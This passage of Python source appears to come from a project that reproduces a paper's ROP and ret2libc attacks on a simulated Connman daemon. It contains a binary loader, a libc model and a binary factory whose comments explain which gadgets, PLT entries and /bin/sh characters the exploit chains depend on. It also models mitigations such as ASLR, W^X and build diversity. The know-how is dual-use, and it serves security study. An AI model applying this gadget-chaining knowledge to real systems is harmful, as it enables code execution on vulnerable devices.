        """Look up a symbol in the main binary, then in the mapped libc."""
        found = self.binary.symbols.get(name)
        if found is None:
            found = self.libc.symbols.get(name)
        if found is None:
            raise KeyError(f"symbol {name!r} not found in {self.binary.name} or libc")
        return found

    def address_of(self, name: str) -> int:
        return self.symbol(name).address

    def plt_address(self, name: str) -> int:
        try:
            return self.binary.plt[name]
        except KeyError:
            raise KeyError(f"{self.binary.name} has no PLT entry for {name!r}") from None


def _map_image(space: AddressSpace, image: Binary, prefix: str) -> None:
    for section in image.sections.values():
        segment = Segment(
            name=f"{prefix}{section.name}",
            base=section.address,
            size=max(section.size, 1),
            perm=section.perm,
        )
        if section.data:
            segment.data[: len(section.data)] = section.data
        space.map(segment)


def load_process(
    binary: Binary,
    libc_image: LibcImage,
    layout: MemoryLayout,
    *,
    wx_enabled: bool,
    uid: int = 0,
    name: Optional[str] = None,
) -> LoadedProcess:
    """Instantiate one run of ``binary`` under the given protection set."""
    if binary.arch != layout.arch:
        raise ValueError(f"binary arch {binary.arch!r} != layout arch {layout.arch!r}")
    space = AddressSpace()
    _map_image(space, binary, prefix=f"{binary.name}:")

    libc = relocate(libc_image.binary, layout.libc_base, new_name="libc")
    _map_image(space, libc, prefix="libc:")

    dynamic_perm = Perm.RW if wx_enabled else Perm.RWX
    space.map_new("stack", layout.stack_base, layout.stack_size, dynamic_perm)
    # Inaccessible guard page below the stack: runaway descending writes
    # (deep recursion, wild push loops) fault instead of silently landing
    # in whatever happens to be mapped beneath.
    space.map_new("stack-guard", layout.stack_base - 0x1000, 0x1000, Perm.NONE)
    space.map_new("heap", layout.heap_base, layout.heap_size, dynamic_perm)

    process = Process(binary.arch, space, uid=uid, name=name or binary.name)
    process.sp = layout.stack_top - STACK_ENVIRONMENT_RESERVE
    process.pc = binary.symbols.address_of("_start")

    # Bind libc exports at their mapped libc addresses...
    for export, handler in libc_image.natives.items():
        address = libc.symbols.address_of(export)
        process.register_native(address, NativeFunction(export, handler))
    # ...and bind the binary's PLT entries straight to the same handlers
    # (eager-binding model of PLT -> GOT -> libc indirection).
    for external, plt_address in binary.plt.items():
        handler = libc_image.natives.get(external)
        if handler is not None:
            process.register_native(plt_address, NativeFunction(f"{external}@plt", handler))

    return LoadedProcess(
        process=process, binary=binary, libc=libc, layout=layout, wx_enabled=wx_enabled
    )
