"""Sections and symbols of a simplified (ELF-like) binary image."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Optional

from ..mem import Perm


@dataclass
class SectionImage:
    """One section: name, permissions, contents (or reserved size for .bss)."""

    name: str
    perm: Perm
    data: bytearray = field(default_factory=bytearray)
    #: Link-time virtual address (assigned by the builder's layout pass).
    address: int = 0
    #: For NOBITS sections (.bss): reserved size with no file contents.
    reserve: int = 0

    @property
    def size(self) -> int:
        return self.reserve if self.reserve else len(self.data)

    @property
    def end(self) -> int:
        return self.address + self.size

    def contains(self, address: int) -> bool:
        return self.address <= address < self.end


@dataclass(frozen=True)
class Symbol:
    """A named address, optionally sized (function or object)."""

    name: str
    address: int
    section: str
    size: int = 0
    kind: str = "func"  # "func" | "object" | "label"


class SymbolTable:
    """Name -> :class:`Symbol` with reverse lookup for the debugger."""

    def __init__(self) -> None:
        self._by_name: Dict[str, Symbol] = {}

    def define(self, symbol: Symbol) -> Symbol:
        if symbol.name in self._by_name:
            raise ValueError(f"duplicate symbol {symbol.name!r}")
        self._by_name[symbol.name] = symbol
        return symbol

    def __contains__(self, name: str) -> bool:
        return name in self._by_name

    def __getitem__(self, name: str) -> Symbol:
        try:
            return self._by_name[name]
        except KeyError:
            raise KeyError(f"undefined symbol {name!r}") from None

    def get(self, name: str) -> Optional[Symbol]:
        return self._by_name.get(name)

    def address_of(self, name: str) -> int:
        return self[name].address

    def resolve(self, address: int) -> Optional[Symbol]:
        """Best (closest preceding, in-range) symbol for an address."""
        best: Optional[Symbol] = None
        for symbol in self._by_name.values():
            if symbol.address <= address and (symbol.size == 0 or address < symbol.address + symbol.size):
                if best is None or symbol.address > best.address:
                    best = symbol
        return best

    def names(self):
        return sorted(self._by_name)

    def items(self):
        return self._by_name.items()

    def __len__(self) -> int:
        return len(self._by_name)
