"""The linked binary image: sections + symbols + PLT map."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Tuple

from .section import SectionImage, Symbol, SymbolTable


@dataclass
class Binary:
    """A linked (simplified-ELF) image ready to be mapped by the loader.

    ``plt`` maps external function names to their PLT entry addresses inside
    the image; the loader binds those entries to libc natives.  Non-PIE
    semantics: all addresses here are final at link time.
    """

    name: str
    arch: str
    sections: Dict[str, SectionImage] = field(default_factory=dict)
    symbols: SymbolTable = field(default_factory=SymbolTable)
    plt: Dict[str, int] = field(default_factory=dict)
    metadata: Dict[str, str] = field(default_factory=dict)

    def section(self, name: str) -> SectionImage:
        try:
            return self.sections[name]
        except KeyError:
            raise KeyError(f"{self.name}: no section {name!r}") from None

    def section_at(self, address: int) -> Optional[SectionImage]:
        for section in self.sections.values():
            if section.contains(address):
                return section
        return None

    def read(self, address: int, length: int) -> bytes:
        """Read link-time contents (used by offline gadget scanning)."""
        section = self.section_at(address)
        if section is None:
            raise KeyError(f"{self.name}: {address:#010x} not in any section")
        offset = address - section.address
        return bytes(section.data[offset : offset + length])

    def find_bytes(
        self, needle: bytes, *, sections: Optional[Iterable[str]] = None
    ) -> List[int]:
        """Every address where ``needle`` occurs (ROPgadget's ``-memstr``)."""
        wanted = set(sections) if sections is not None else None
        hits: List[int] = []
        for section in self.sections.values():
            if wanted is not None and section.name not in wanted:
                continue
            start = 0
            while True:
                index = section.data.find(needle, start)
                if index < 0:
                    break
                hits.append(section.address + index)
                start = index + 1
        return sorted(hits)

    def executable_ranges(self) -> List[Tuple[int, bytes]]:
        """(base, bytes) for every executable section — the gadget corpus."""
        from ..mem import Perm

        return [
            (section.address, bytes(section.data))
            for section in self.sections.values()
            if Perm.X in section.perm and section.data
        ]

    def describe(self) -> str:
        lines = [f"{self.name} ({self.arch})"]
        for section in sorted(self.sections.values(), key=lambda s: s.address):
            lines.append(
                f"  {section.name:<10} {section.address:#010x}-{section.end:#010x} "
                f"{section.perm.describe()} {section.size:#x} bytes"
            )
        lines.append(f"  {len(self.symbols)} symbols, {len(self.plt)} PLT entries")
        return "\n".join(lines)


def relocate(binary: Binary, delta: int, new_name: Optional[str] = None) -> Binary:
    """Return a copy of ``binary`` with every address shifted by ``delta``.

    Used by the loader to slide the libc image to its (possibly ASLR
    randomized) base for one process instantiation.
    """
    moved = Binary(
        name=new_name or binary.name,
        arch=binary.arch,
        metadata=dict(binary.metadata),
    )
    for name, section in binary.sections.items():
        moved.sections[name] = SectionImage(
            name=section.name,
            perm=section.perm,
            data=bytearray(section.data),
            address=(section.address + delta) & 0xFFFFFFFF,
            reserve=section.reserve,
        )
    for name, symbol in binary.symbols.items():
        moved.symbols.define(
            Symbol(
                name=symbol.name,
                address=(symbol.address + delta) & 0xFFFFFFFF,
                section=symbol.section,
                size=symbol.size,
                kind=symbol.kind,
            )
        )
    moved.plt = {name: (address + delta) & 0xFFFFFFFF for name, address in binary.plt.items()}
    return moved
