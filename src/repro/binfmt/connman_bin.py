"""Factory for the simulated Connman binary on each architecture.

The image is what the paper's tooling actually sees: a non-PIE 32-bit
executable whose ``.text`` carries real encoded instructions (so
``ropper``/``ROPgadget``-style scanning finds genuine gadgets), whose PLT
references ``memcpy``/``execlp``/``exit`` — but pointedly **not** ``system``
or ``strcpy`` (the compiler emitted ``__strcpy_chk``), exactly the facts
§III-B1 and §III-C1 hinge on — and whose ``.rodata`` contains the individual
characters of ``/bin/sh`` scattered across ordinary strings (the
``-memstr`` sources for the ROP string-builder).

``seed`` drives a link-order shuffle and random NOP padding between
functions.  ``seed=0`` is the stock build; other seeds model the
compile-time software-diversity mitigation of §IV (same behaviour,
different gadget/PLT addresses).
"""

from __future__ import annotations

import random
from typing import Callable, List, Tuple

from ..cpu.arm import asm as arm
from ..cpu.x86 import asm as x86
from .binary import Binary
from .builder import BinaryBuilder

X86_LINK_BASE = 0x08048000
ARM_LINK_BASE = 0x00010000

#: External functions Connman's PLT references (note: no system, no strcpy).
PLT_FUNCTIONS = (
    "memcpy",
    "execlp",
    "exit",
    "abort",
    "__strcpy_chk",
    "strlen",
    "memset",
    "g_log",
    "g_malloc",
    "g_free",
)

#: Ordinary program strings that happen to cover every character of
#: ``/bin/sh`` — the single-character memcpy sources of §III-C.
RODATA_STRINGS: Tuple[Tuple[str, bytes], ...] = (
    ("str_resolv_conf", b"/etc/resolv.conf"),
    ("str_busybox", b"busybox"),
    ("str_wifi", b"wifi"),
    ("str_dns", b"dns"),
    ("str_dhcp", b"dhcp"),
    ("str_nameserver", b"nameserver"),
    ("str_proc_route", b"/proc/net/route"),
    ("str_error_fmt", b"connman: error in %s"),
)

_X86_SAFE_REGS = ("eax", "ecx", "edx", "esi", "edi")


def _x86_filler_ops(rng: random.Random, count: int) -> bytes:
    """Straight-line, never-executed body instructions for one function."""
    out = bytearray()
    for _ in range(count):
        choice = rng.randrange(6)
        reg = rng.choice(_X86_SAFE_REGS)
        if choice == 0:
            out += x86.mov_reg_imm32(reg, rng.randrange(1 << 32))
        elif choice == 1:
            out += x86.xor_reg_reg(reg, reg)
        elif choice == 2:
            out += x86.add_reg_imm8(reg, rng.randrange(1, 0x7F))
        elif choice == 3:
            out += x86.inc_reg(reg)
        elif choice == 4:
            out += x86.test_reg_reg(reg, reg)
        else:
            out += x86.nop()
    return bytes(out)


_X86_EPILOGUES: Tuple[Callable[[], bytes], ...] = (
    lambda: x86.pop_reg("ebp") + x86.ret(),
    # The 4-register unwind tail: the "remove the next 16 bytes" gadget of
    # §III-C1 that discards memcpy's stacked arguments plus the spacer word.
    lambda: x86.pop_reg("ebx") + x86.pop_reg("esi") + x86.pop_reg("edi") + x86.pop_reg("ebp") + x86.ret(),
    # The `add esp, 0xC; pop ebp; ret` shape the paper observed at the end
    # of memcpy's caller.
    lambda: x86.add_reg_imm8("esp", 0x0C) + x86.pop_reg("ebp") + x86.ret(),
    lambda: x86.leave() + x86.ret(),
    lambda: x86.ret(),
)


def _x86_filler_function(rng: random.Random) -> bytes:
    body = x86.push_reg("ebp") + x86.mov_reg_reg("ebp", "esp")
    body += _x86_filler_ops(rng, rng.randrange(3, 10))
    body += rng.choice(_X86_EPILOGUES)()
    return body


def _arm_filler_ops(rng: random.Random, count: int) -> bytes:
    out = bytearray()
    for _ in range(count):
        choice = rng.randrange(4)
        reg = f"r{rng.randrange(7)}"
        if choice == 0:
            out += arm.mov_imm(reg, rng.randrange(256))
        elif choice == 1:
            out += arm.add_imm(reg, reg, rng.randrange(1, 256))
        elif choice == 2:
            out += arm.mov_reg(reg, f"r{rng.randrange(7)}")
        else:
            out += arm.nop()
    return bytes(out)


_ARM_EPILOGUES: Tuple[Callable[[], bytes], ...] = (
    lambda: arm.pop(["r4", "pc"]),
    lambda: arm.pop(["r4", "r5", "pc"]),
    lambda: arm.pop(["r4", "r5", "r6", "r7", "pc"]),
    # The "too short" gadget of §III-B2 — using it leaves the parse_rr
    # check slots attacker-garbage and SIGSEGVs.
    lambda: arm.pop(["r0", "pc"]),
    lambda: arm.bx("lr"),
)


def _arm_filler_function(rng: random.Random) -> bytes:
    body = arm.push(["r4", "lr"])
    body += _arm_filler_ops(rng, rng.randrange(3, 10))
    body += rng.choice(_ARM_EPILOGUES)()
    return body


def _x86_function_bodies(rng: random.Random) -> List[Tuple[str, bytes]]:
    functions: List[Tuple[str, bytes]] = [
        # The wide register-restore helper: `pop pop pop pop ret`.
        ("__restore_all", x86.pop_reg("ebx") + x86.pop_reg("esi") + x86.pop_reg("edi")
         + x86.pop_reg("ebp") + x86.ret()),
        # An innocuous constant whose immediate bytes contain 0xFF 0xE4 —
        # the classic *coincidental* `jmp esp` every real binary scan finds.
        ("__poll_timeout", x86.push_reg("ebp") + x86.mov_reg_reg("ebp", "esp")
         + x86.mov_reg_imm32("esi", 0x11E4FF22)
         + x86.pop_reg("ebp") + x86.ret()),
        ("__stack_adjust", x86.add_reg_imm8("esp", 0x10) + x86.ret()),
        ("parse_rr", x86.push_reg("ebp") + x86.mov_reg_reg("ebp", "esp")
         + _x86_filler_ops(rng, 16) + x86.leave() + x86.ret()),
        ("get_name", x86.push_reg("ebp") + x86.mov_reg_reg("ebp", "esp")
         + _x86_filler_ops(rng, 12) + x86.leave() + x86.ret()),
        ("parse_response", x86.push_reg("ebp") + x86.mov_reg_reg("ebp", "esp")
         + _x86_filler_ops(rng, 24) + x86.leave() + x86.ret()),
        ("forward_dns_reply", x86.push_reg("ebp") + x86.mov_reg_reg("ebp", "esp")
         + _x86_filler_ops(rng, 10) + x86.pop_reg("ebp") + x86.ret()),
    ]
    for index in range(28):
        functions.append((f"sub_{index:03d}", _x86_filler_function(rng)))
    return functions


def _arm_function_bodies(rng: random.Random) -> List[Tuple[str, bytes]]:
    functions: List[Tuple[str, bytes]] = [
        # The wide restore gadget of Listings 2 and 5.
        ("__restore_ctx", arm.pop(["r0", "r1", "r2", "r3", "r5", "r6", "r7", "pc"])),
        # The call trampoline of Listing 5: `blx r3` then resume popping.
        ("__dispatch_r3", arm.blx_reg("r3") + arm.pop(["r4", "pc"])),
        ("parse_rr", arm.push(["r4", "r5", "r6", "r7", "lr"]) + arm.mvn_imm("r3", 0)
         + _arm_filler_ops(rng, 14) + arm.pop(["r4", "r5", "r6", "r7", "pc"])),
        ("get_name", arm.push(["r4", "lr"]) + _arm_filler_ops(rng, 10) + arm.pop(["r4", "pc"])),
        ("parse_response", arm.push(["r4", "r5", "r6", "r7", "lr"])
         + _arm_filler_ops(rng, 20) + arm.pop(["r4", "r5", "r6", "r7", "pc"])),
        ("forward_dns_reply", arm.push(["r4", "lr"]) + _arm_filler_ops(rng, 8)
         + arm.pop(["r4", "pc"])),
    ]
    for index in range(28):
        functions.append((f"sub_{index:03d}", _arm_filler_function(rng)))
    return functions


def _plt_stub(arch: str, index: int) -> bytes:
    """Realistic-looking PLT entry bytes (never executed — native-bound)."""
    if arch == "x86":
        # jmp *[got]; push index; jmp plt0 — classic 16-byte lazy PLT shape.
        return (
            bytes([0xFF, 0x25]) + (0x0804A000 + 4 * index).to_bytes(4, "little")
            + x86.push_imm32(index)
            + bytes([0xE9, 0x00, 0x00, 0x00, 0x00])
        )
    # add ip, pc, #0; ldr pc, [ip, #imm] shape, approximated with our subset.
    return arm.add_imm("ip", "pc", 0) + arm.ldr("pc", "ip", 8) + arm.nop()


def build_connman(arch: str, version: str = "1.34", seed: int = 0) -> Binary:
    """Build one Connman image.

    ``seed=0`` is the stock distribution build; non-zero seeds produce the
    diversified builds used by the §IV software-diversity experiments.
    """
    link_base = X86_LINK_BASE if arch == "x86" else ARM_LINK_BASE
    rng = random.Random(seed * 2 + (0 if arch == "x86" else 1))
    builder = BinaryBuilder("connman", arch, link_base=link_base)

    # _start / main come first, like a real image.
    if arch == "x86":
        builder.add_function("_start", ".text", x86.nop() * 4 + x86.ret())
        bodies = _x86_function_bodies(rng)
        padding: Callable[[], bytes] = lambda: x86.nop() * rng.randrange(0, 8)
        align = 1
    else:
        builder.add_function("_start", ".text", arm.nop() * 4 + arm.bx("lr"))
        bodies = _arm_function_bodies(rng)
        padding = lambda: arm.nop() * rng.randrange(0, 4)
        align = 4

    # Link-order shuffle + random inter-function padding: this is where the
    # diversity defense gets its gadget-address entropy.
    rng.shuffle(bodies)
    for name, code in bodies:
        builder.append(".text", padding())
        builder.align(".text", align)
        builder.add_function(name, ".text", code)

    # The event loop that calls parse_response; `dnsproxy_resume` is the
    # legitimate return site the daemon binds as a native stop-point.
    builder.align(".text", align)
    if arch == "x86":
        loop_addr = builder.cursor(".text")
        builder.define("dnsproxy_event_loop", ".text", kind="func")
        call_site = loop_addr + 2
        parse_response = builder.append(
            ".text",
            x86.push_reg("ebp") + x86.mov_reg_reg("ebp", "esp")
            + x86.call_rel32(call_site, 0)  # patched below
            + x86.nop(),
        )
        builder.define("dnsproxy_resume", ".text", address=call_site + 5, kind="label")
        builder.append(".text", x86.leave() + x86.ret())
        builder.patch_u32(call_site + 1, 0)  # keep zero; symbolic call (host-simulated)
        del parse_response
    else:
        builder.define("dnsproxy_event_loop", ".text", kind="func")
        builder.append(".text", arm.push(["r4", "lr"]))
        bl_site = builder.cursor(".text")
        builder.append(".text", arm.bl(bl_site, bl_site))  # symbolic; host-simulated
        builder.define("dnsproxy_resume", ".text", address=bl_site + 4, kind="label")
        builder.append(".text", arm.nop() + arm.pop(["r4", "pc"]))

    # PLT entries, in seed-shuffled order (diversity also moves the PLT).
    plt_order = list(PLT_FUNCTIONS)
    rng.shuffle(plt_order)
    for index, name in enumerate(plt_order):
        builder.align(".plt", 16 if arch == "x86" else 4)
        builder.add_plt_entry(name, _plt_stub(arch, index))

    # Strings (shuffled for the same reason).
    strings = list(RODATA_STRINGS)
    rng.shuffle(strings)
    builder.add_string("str_version", f"connman {version}".encode())
    for name, text in strings:
        builder.add_string(name, text)

    # Writable globals; `connman_globals` doubles as the guaranteed-mapped,
    # non-randomized pointer the ARM chains use for placeholder slots.
    builder.append(".data", b"\x00" * 16)
    globals_addr = builder.append(".data", b"\x01\x00\x00\x00" + b"\x00" * 60)
    builder.define("connman_globals", ".data", address=globals_addr, size=64, kind="object")

    builder.reserve_bss("__bss_start", 0x1000)
    builder.reserve_bss("dns_cache_storage", 0x800)

    return builder.link(version=version, seed=str(seed), product="connman")
