"""Two-phase builder for simplified binaries.

Phase 1 (:class:`BinaryBuilder`): append bytes to sections, define symbols
at the current cursor, reserve .bss space.  Addresses are absolute from the
start — the builder is seeded with a link base and lays sections out in a
fixed order — so code factories can reference earlier symbols directly and
back-patch forward references with :meth:`patch_u32`.
"""

from __future__ import annotations

import struct
from typing import Dict, List, Optional, Tuple

from ..mem import Perm, page_align_up
from .binary import Binary
from .section import SectionImage, Symbol

#: Canonical section order and permissions for our images.
SECTION_PLAN: List[Tuple[str, Perm]] = [
    (".text", Perm.RX),
    (".plt", Perm.RX),
    (".rodata", Perm.R),
    (".data", Perm.RW),
    (".bss", Perm.RW),
]


class BinaryBuilder:
    """Accumulates section contents and symbols, then links a :class:`Binary`."""

    def __init__(self, name: str, arch: str, link_base: int):
        self.name = name
        self.arch = arch
        self.link_base = link_base
        self._sections: Dict[str, SectionImage] = {}
        self._symbols: List[Symbol] = []
        self._plt: Dict[str, int] = {}
        self._linked = False
        # Pre-assign addresses so emitted code can use absolute references.
        cursor = link_base
        for section_name, perm in SECTION_PLAN:
            section = SectionImage(name=section_name, perm=perm, address=cursor)
            self._sections[section_name] = section
            # Reserve a page-aligned budget per section; actual size is set
            # at link time but must stay within the budget.
            cursor = page_align_up(cursor + self.budget_for(section_name))

    #: Per-section address budget (generous; enforced at link).
    BUDGETS = {".text": 0x8000, ".plt": 0x1000, ".rodata": 0x2000, ".data": 0x1000, ".bss": 0x4000}

    @classmethod
    def budget_for(cls, section_name: str) -> int:
        return cls.BUDGETS[section_name]

    def section(self, name: str) -> SectionImage:
        return self._sections[name]

    def cursor(self, section_name: str) -> int:
        """Current append address in a section."""
        section = self._sections[section_name]
        return section.address + len(section.data)

    def append(self, section_name: str, data: bytes) -> int:
        """Append bytes; returns the address they were placed at."""
        section = self._sections[section_name]
        address = section.address + len(section.data)
        section.data += data
        if len(section.data) > self.budget_for(section_name):
            raise ValueError(
                f"{self.name}: section {section_name} exceeded its "
                f"{self.budget_for(section_name):#x}-byte budget"
            )
        return address

    def align(self, section_name: str, alignment: int, fill: bytes = b"\x00") -> int:
        section = self._sections[section_name]
        while (section.address + len(section.data)) % alignment:
            section.data += fill
        return self.cursor(section_name)

    def define(self, name: str, section_name: str, address: Optional[int] = None,
               size: int = 0, kind: str = "func") -> Symbol:
        symbol = Symbol(
            name=name,
            address=self.cursor(section_name) if address is None else address,
            section=section_name,
            size=size,
            kind=kind,
        )
        self._symbols.append(symbol)
        return symbol

    def add_function(self, name: str, section_name: str, code: bytes) -> Symbol:
        """Append code and define a sized function symbol over it."""
        address = self.append(section_name, code)
        return self.define(name, section_name, address=address, size=len(code))

    def add_string(self, name: str, text: bytes, section_name: str = ".rodata") -> Symbol:
        address = self.append(section_name, text + b"\x00")
        return self.define(name, section_name, address=address, size=len(text) + 1, kind="object")

    def reserve_bss(self, name: str, size: int) -> Symbol:
        """Reserve zero-initialized space and define a symbol at its start."""
        section = self._sections[".bss"]
        address = section.address + section.reserve
        section.reserve += size
        if section.reserve > self.budget_for(".bss"):
            raise ValueError(f"{self.name}: .bss exceeded its budget")
        symbol = Symbol(name=name, address=address, section=".bss", size=size, kind="object")
        self._symbols.append(symbol)
        return symbol

    def add_plt_entry(self, external_name: str, stub: bytes) -> int:
        """Append a PLT stub and record the entry address for the loader."""
        address = self.append(".plt", stub)
        self._plt[external_name] = address
        self.define(f"{external_name}@plt", ".plt", address=address, size=len(stub))
        return address

    def patch_u32(self, address: int, value: int) -> None:
        """Back-patch a 32-bit little-endian word at an absolute address."""
        for section in self._sections.values():
            if section.address <= address < section.address + len(section.data):
                offset = address - section.address
                section.data[offset : offset + 4] = struct.pack("<I", value & 0xFFFFFFFF)
                return
        raise ValueError(f"patch target {address:#010x} not inside emitted data")

    def link(self, **metadata: str) -> Binary:
        """Finalize into an immutable-ish :class:`Binary`."""
        if self._linked:
            raise RuntimeError("builder already linked")
        self._linked = True
        binary = Binary(name=self.name, arch=self.arch, metadata=dict(metadata))
        for section in self._sections.values():
            if section.data or section.reserve:
                binary.sections[section.name] = section
        for symbol in self._symbols:
            binary.symbols.define(symbol)
        binary.plt = dict(self._plt)
        return binary
