"""The simulated C library: image layout plus native implementations.

libc is built at link base 0 and slid to its (possibly ASLR-randomized)
base by the loader.  Every exported function has a real address inside the
mapped ``libc:.text`` segment; when emulated control reaches one, the
registered Python handler runs with full calling-convention semantics
(see :mod:`repro.cpu.native`).

The exploit-relevant facts modeled here, straight from the paper:

* ``system`` exists in libc but is **not** referenced by the Connman binary
  — hence the ret2libc attack (§III-B1) needs its randomizable address;
* ``"/bin/sh"`` exists as a string inside libc (§III-B2 Listing 2 loads its
  static libc address into ``r0``);
* ``memcpy``/``execlp``/``exit`` are reachable through Connman's PLT at
  non-randomized addresses (§III-C).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

from ..cpu.events import _EmulationStop
from ..cpu.native import NativeCallContext, NativeHandler
from ..mem import MemoryFault
from .binary import Binary
from .builder import BinaryBuilder

#: Upper bound on a single memcpy, to keep stray chains from looping forever.
MEMCPY_LIMIT = 1 << 20

MAX_EXEC_VARARGS = 16


# -- native handlers ----------------------------------------------------------


def native_system(ctx: NativeCallContext):
    command = ctx.cstring_arg(0)
    parts = tuple(command.split()) or ("/bin/sh",)
    ctx.process.record_spawn(parts[0], parts)
    ctx.process.record_exit(code=0)
    raise _EmulationStop("execve", f"system({command!r}) uid={ctx.process.uid}")


def native_execlp(ctx: NativeCallContext):
    path = ctx.cstring_arg(0)
    argv = []
    for index in range(1, MAX_EXEC_VARARGS):
        pointer = ctx.arg(index)
        if pointer == 0:
            break
        argv.append(ctx.memory.read_cstring(pointer).decode("latin-1"))
    record = ctx.process.record_spawn(path, tuple(argv))
    ctx.process.record_exit(code=0)
    raise _EmulationStop("execve", f"execlp({record.path!r}, {record.argv}) uid={record.uid}")


def native_execve(ctx: NativeCallContext):
    from ..cpu.syscalls import _do_execve

    _do_execve(ctx.process, ctx.arg(0), ctx.arg(1))


def native_exit(ctx: NativeCallContext):
    code = ctx.arg(0) & 0xFF
    ctx.process.record_exit(code=code)
    raise _EmulationStop("exit", f"exit({code})")


def native_abort(ctx: NativeCallContext):
    ctx.process.record_exit(code=134, signal="SIGABRT")
    raise _EmulationStop("abort", "abort()")


def native_memcpy(ctx: NativeCallContext):
    dest, src, length = ctx.arg(0), ctx.arg(1), ctx.arg(2)
    if length > MEMCPY_LIMIT:
        raise MemoryFault(src, f"memcpy length {length:#x} exceeds sanity limit")
    if length:
        ctx.memory.write(dest, ctx.memory.read(src, length))
    return dest


def native_memset(ctx: NativeCallContext):
    dest, value, length = ctx.arg(0), ctx.arg(1), ctx.arg(2)
    if length > MEMCPY_LIMIT:
        raise MemoryFault(dest, f"memset length {length:#x} exceeds sanity limit")
    if length:
        ctx.memory.write(dest, bytes([value & 0xFF]) * length)
    return dest


def native_strlen(ctx: NativeCallContext):
    return len(ctx.memory.read_cstring(ctx.arg(0)))


def native_strcpy_chk(ctx: NativeCallContext):
    """``__strcpy_chk`` — what the compiler turned Connman's strcpy into."""
    dest, src, dest_len = ctx.arg(0), ctx.arg(1), ctx.arg(2)
    data = ctx.memory.read_cstring(ctx.arg(1))
    if len(data) + 1 > dest_len:
        return native_abort(ctx)
    ctx.memory.write_cstring(dest, data)
    return dest


def _returns_zero(ctx: NativeCallContext):
    return 0


#: Exported name -> handler.  Order also fixes .text layout (deterministic).
LIBC_EXPORTS: Dict[str, NativeHandler] = {
    "system": native_system,
    "execlp": native_execlp,
    "execve": native_execve,
    "exit": native_exit,
    "abort": native_abort,
    "memcpy": native_memcpy,
    "memset": native_memset,
    "strlen": native_strlen,
    "__strcpy_chk": native_strcpy_chk,
    "sleep": _returns_zero,
    "puts": _returns_zero,
    "g_log": _returns_zero,
    "g_malloc": _returns_zero,
    "g_free": _returns_zero,
}


@dataclass
class LibcImage:
    """Link-base-0 libc binary plus its native implementations."""

    binary: Binary
    natives: Dict[str, NativeHandler]


def _stub_body(arch: str, index: int) -> bytes:
    """Plausible (never-executed) function body bytes for one libc export."""
    if arch == "x86":
        from ..cpu.x86 import asm as x86

        return (
            x86.push_reg("ebp")
            + x86.mov_reg_reg("ebp", "esp")
            + x86.mov_reg_imm32("eax", 0xF000 + index)
            + x86.pop_reg("ebp")
            + x86.ret()
        )
    from ..cpu.arm import asm as arm

    return (
        arm.push(["r4", "lr"])
        + arm.mov_imm("r0", index & 0xFF)
        + arm.pop(["r4", "pc"])
    )


def build_libc(arch: str) -> LibcImage:
    """Build the deterministic libc image for one architecture."""
    builder = BinaryBuilder("libc", arch, link_base=0)
    for index, name in enumerate(LIBC_EXPORTS):
        builder.align(".text", 16 if arch == "x86" else 4)
        builder.add_function(name, ".text", _stub_body(arch, index))
    # The string ret2libc needs (Listing 2 line 2: "r0, static /bin/sh").
    builder.add_string("str_bin_sh", b"/bin/sh")
    builder.add_string("str_sh_dash_c", b"-c")
    builder.add_string("libc_version", b"GNU C Library (simulated) release 2.23")
    builder.reserve_bss("__libc_bss", 0x100)
    binary = builder.link(soname="libc.so.6")
    return LibcImage(binary=binary, natives=dict(LIBC_EXPORTS))
