"""Simplified ELF-like binary images, libc model, and process loader."""

from .binary import Binary, relocate
from .builder import BinaryBuilder
from .connman_bin import ARM_LINK_BASE, PLT_FUNCTIONS, X86_LINK_BASE, build_connman
from .libc import LIBC_EXPORTS, LibcImage, build_libc
from .loader import LoadedProcess, load_process
from .section import SectionImage, Symbol, SymbolTable

__all__ = [
    "ARM_LINK_BASE",
    "Binary",
    "BinaryBuilder",
    "build_connman",
    "build_libc",
    "LIBC_EXPORTS",
    "LibcImage",
    "LoadedProcess",
    "load_process",
    "PLT_FUNCTIONS",
    "relocate",
    "SectionImage",
    "Symbol",
    "SymbolTable",
    "X86_LINK_BASE",
]
