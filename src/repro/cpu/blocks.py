"""Superblock translation: straight-line blocks compiled over the decode cache.

The decode cache (:mod:`repro.cpu.cache`) removed re-decoding from the
fetch–decode–execute loop; what remains is per-instruction *dispatch* — a
native-table probe, a cache probe with per-page validation, and a long
mnemonic if/elif chain for every single step.  This layer ends that: it
groups decoded instructions into straight-line basic blocks ("superblocks")
and compiles each block once into a tuple of specialized Python closures —
consecutive handler calls with operands pre-extracted, memory/register
accessors hoisted at compile time, and dead flag computation elided — so
steady-state execution is one cache probe per *block* followed by plain
closure calls.

A block ends at

* any control transfer (branch, call, return, syscall, trap, or — on ARM —
  any instruction that may write the pc),
* an address with a registered native (libc/PLT) handler, which the run
  loop must dispatch itself,
* the page boundary after the entry page (keeps the invalidation span per
  block to the entry page plus at most one straddled neighbour), or
* :data:`MAX_BLOCK_LEN` instructions.

Validity mirrors the decode cache exactly, because blocks are derived from
the same decoded bytes: an entry is keyed by its entry address and stamped
with the ``mapping_epoch``, the write generations of every page the block's
bytes span (via ``AddressSpace.page_generation_span``), and the process's
``native_version`` (a native registered mid-block must not be skipped).
Self-modifying code is handled at two points: a stale block is dropped on
lookup (generation mismatch), and a *store inside the block* re-checks the
block's own pages immediately after writing, bailing out mid-block so the
remaining instructions re-decode — the same bytes the per-step path would
have executed.

The contract is the decode cache's, one level up: outcomes, traces, step
counts, budget exhaustion, crash postmortems (including register/flag
state at the fault), and W^X / code-injection verdicts are bit-identical
with blocks on or off, at any worker count (``tests/test_block_translation``
pins it).  Runs with a ``TraceRecorder`` or a ``step_timer`` attached fall
back to per-instruction dispatch so per-step observation stays exact.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Dict, List, Optional, Tuple

from ..mem import MemoryFault
from ..mem.space import PAGE_SHIFT
from .events import CpuError
from .isa import Instruction

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from .emulator import Emulator
    from .process import Process

#: Longest block, in instructions.  Bounds compile cost per entry and keeps
#: the budget-checkpoint fallback (a block never executes past the step
#: budget) from starving the tail of a run.
MAX_BLOCK_LEN = 64


class BlockInvalidated(Exception):
    """Internal bail signal: a store inside the block hit the block's own
    pages, so the remaining instructions must re-decode.  Never escapes
    :meth:`Block.execute`."""


class Block:
    """One compiled straight-line block: consecutive specialized closures.

    ``ops[i]`` executes instruction ``i`` with the exact architectural
    semantics of the interpreter (including the per-instruction pc commit,
    so a fault or bail mid-block leaves the same register state the
